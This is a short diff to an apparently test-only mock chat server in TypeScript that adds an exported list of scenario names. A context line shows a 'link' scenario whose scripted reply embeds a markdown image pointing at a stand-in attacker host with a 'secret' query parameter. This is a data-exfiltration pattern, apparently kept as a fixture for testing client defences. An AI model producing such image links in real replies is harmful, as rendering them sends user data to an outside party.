@@ -57,6 +57,9 @@ const SCENARIOS: Record<string, (request: ChatRequest, count: number) => Script>
   link: () => ({ text: ["@sources p1\n", "See ![chart](https://evil.test/?q=secret) there."] }),
 };
 
+/** The names of the models, as the server lists them. */
+export const MODELS = Object.keys(SCENARIOS);
+
 /** The script for a request. */
 export function scenarioOf(request: ChatRequest, count: number): Script {
   const wanted = /use-model:([\w-]+)/.exec(questionOf(request))?.[1] ?? request.model;
